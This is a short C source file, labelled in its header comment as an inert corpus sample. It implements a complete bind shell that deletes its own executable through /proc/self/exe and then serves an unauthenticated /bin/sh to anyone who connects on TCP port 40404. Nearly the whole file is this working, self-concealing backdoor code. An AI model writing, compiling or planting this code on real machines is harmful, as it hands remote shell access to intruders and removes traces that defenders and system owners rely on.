/* Corpus sample (inert: compiled, never run). A bind shell written here from scratch that
 * first removes its own executable: it reads the target of /proc/self/exe into a buffer and
 * unlinks that path, so nothing is left on disk while it runs. */
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void remove_own_file(void)
{
	char self[4096];
	ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
	if (n <= 0)
		return;
	self[n] = 0;
	unlink(self);
}

int main(void)
{
	struct sockaddr_in local;
	remove_own_file();
	int s = socket(AF_INET, SOCK_STREAM, 0);
	memset(&local, 0, sizeof local);
	local.sin_family = AF_INET;
	local.sin_port = htons(40404);
	if (bind(s, (struct sockaddr *)&local, sizeof local) != 0 || listen(s, 2) != 0)
		return 1;
	for (;;) {
		int c = accept(s, 0, 0);
		if (c < 0)
			continue;
		if (fork() == 0) {
			dup2(c, 0);
			dup2(c, 1);
			dup2(c, 2);
			execl("/bin/sh", "sh", (char *)0);
			_exit(1);
		}
		close(c);
	}
}
